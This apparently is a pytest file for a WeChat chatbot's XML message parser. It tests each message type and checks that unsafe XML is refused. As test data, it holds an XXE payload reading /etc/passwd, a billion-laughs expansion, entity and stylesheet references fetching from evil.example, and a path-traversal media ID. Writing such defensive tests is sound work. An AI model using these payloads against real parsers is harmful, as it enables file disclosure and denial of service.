"""Reading WeChat's XML: every message type of payloads.yml, and the unsafe or malformed
documents refused before or while parsing (XXE, entity expansion, duplicates, nesting)."""

from __future__ import annotations

import pytest

from bot.channels.wechat.errors import RequestRefused
from bot.channels.wechat.inbound import decode_body, parse_fields, read_message
from tests.bot.channels.wechat.harness import ACCOUNT, OPENID, payload


def test_a_text_message() -> None:
    message = read_message(payload("text", content="我的转账失败了", msg_id=1234567890123456789))
    assert (message.kind, message.openid, message.account, message.text) == (
        "text",
        OPENID,
        ACCOUNT,
        "我的转账失败了",
    )
    assert message.msg_id == "1234567890123456789"
    assert message.sender_id == f"wechat:{OPENID}"
    assert message.dedupe_key == "msg:1234567890123456789"


def test_markup_and_cdata_ends_inside_the_text_are_text() -> None:
    text = '<!DOCTYPE html><?php echo 1 ?><!-- x --> a]]>b &amp; <script>alert("x")</script>'
    assert read_message(payload("text", content=text)).text == text


def test_voice_with_and_without_recognition() -> None:
    heard = read_message(payload("voice", content="我要转人工"))
    assert (heard.kind, heard.text) == ("voice", "我要转人工")
    assert heard.media_id and heard.media_id.startswith("media_")
    assert read_message(payload("voice_unrecognized")).text == ""


def test_an_image_keeps_its_media_id_only() -> None:
    image = read_message(payload("image", media_id="abc-DEF_123"))
    assert (image.kind, image.media_id, image.text) == ("image", "abc-DEF_123", "")


def test_events_have_no_msg_id_and_dedupe_on_user_and_time() -> None:
    click = read_message(payload("click", key="REQUEST_HUMAN", time=1700000000))
    assert (click.kind, click.event, click.event_key, click.msg_id) == (
        "event",
        "click",
        "REQUEST_HUMAN",
        None,
    )
    assert click.dedupe_key == f"evt:{OPENID}:1700000000:click"
    subscribe = read_message(payload("subscribe", key="qrscene_campaign42"))
    assert (subscribe.event, subscribe.event_key) == ("subscribe", "campaign42")
    assert read_message(payload("subscribe")).event == "subscribe"
    assert read_message(payload("unsubscribe")).event == "unsubscribe"
    assert read_message(payload("view")).event == "view"
    assert read_message(payload("unknown_event")).event == "teleport"


def test_other_types_are_read_as_their_type() -> None:
    assert read_message(payload("video")).kind == "video"
    assert read_message(payload("location")).kind == "location"
    assert read_message(payload("unknown_type")).kind == "hologram"


XXE = """<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<xml><ToUserName>gh_1</ToUserName><FromUserName>o1</FromUserName><CreateTime>1</CreateTime>
<MsgType>text</MsgType><Content>&xxe;</Content><MsgId>1</MsgId></xml>"""
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'
        for i in range(1, 10)
    )
    + "]><xml><Content>&lol9;</Content></xml>"
)
UNSAFE = {
    "xxe_external_entity": XXE,
    "billion_laughs": LAUGHS,
    "parameter_entity": '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><xml/>',
    "doctype_only": "<!DOCTYPE xml><xml><MsgType>text</MsgType></xml>",
    "doctype_after_cdata": "<![CDATA[x]]><!DOCTYPE xml><xml/>",
    "stylesheet_instruction": '<?xml-stylesheet href="http://evil.example/x.xsl"?><xml/>',
    "comment": "<xml><!-- hidden --><MsgType>text</MsgType></xml>",
    "undefined_entity": "<xml><Content>&undefined;</Content></xml>",
    "malformed": "<xml><Content>unclosed</xml>",
    "not_xml": "hello, this is not XML",
    "another_root": "<msg><MsgType>text</MsgType></msg>",
    "two_roots": "<xml/><xml/>",
}


@pytest.mark.parametrize("name", sorted(UNSAFE))
def test_unsafe_or_malformed_xml_is_refused(name: str) -> None:
    with pytest.raises(RequestRefused) as refused:
        parse_fields(UNSAFE[name])
    assert (refused.value.status, refused.value.code) == (400, "invalid_xml")


BAD_MESSAGES = {
    "duplicate_sender": payload("text", content="hi").replace(
        "<CreateTime>", f"<FromUserName><![CDATA[{OPENID}x]]></FromUserName><CreateTime>"
    ),
    "nested_content": payload("text").replace(
        "<Content><![CDATA[]]></Content>", "<Content><b>x</b></Content>"
    ),
    "sender_with_spaces": payload("text", openid="o user"),
    "sender_too_long": payload("text", openid="o" * 65),
    "no_sender": payload("text").replace(f"<FromUserName><![CDATA[{OPENID}]]></FromUserName>", ""),
    "no_type": payload("text").replace("<MsgType><![CDATA[text]]></MsgType>", ""),
    "bad_create_time": payload("text", time="yesterday"),
    "bad_msg_id": payload("text", msg_id="12ab"),
    "control_character": payload("text", content="你好\x07"),
    "event_without_event": payload("click").replace("<Event><![CDATA[CLICK]]></Event>", ""),
    "bad_media_id": payload("image", media_id="../../etc/passwd?x=1"),
}


@pytest.mark.parametrize("name", sorted(BAD_MESSAGES))
def test_messages_with_missing_or_ill_formed_fields_are_refused(name: str) -> None:
    with pytest.raises(RequestRefused) as refused:
        read_message(BAD_MESSAGES[name])
    assert refused.value.code == "invalid_xml"


def test_bodies_must_be_utf8() -> None:
    assert decode_body("\ufeff<xml/>".encode()) == "<xml/>"
    for raw in (b"\xff\xfe<\x00x\x00", "<xml>你好</xml>".encode("gbk"), b"<xml>\xc3\x28</xml>"):
        with pytest.raises(RequestRefused) as refused:
            decode_body(raw)
        assert (refused.value.status, refused.value.code) == (400, "invalid_encoding")


def test_a_declared_foreign_encoding_is_still_read_as_utf8() -> None:
    xml = payload("text", content="你好").replace("<xml>", '<?xml version="1.0" encoding="GBK"?><xml>', 1)
    assert read_message(decode_body(xml.encode("utf-8"))).text == "你好"
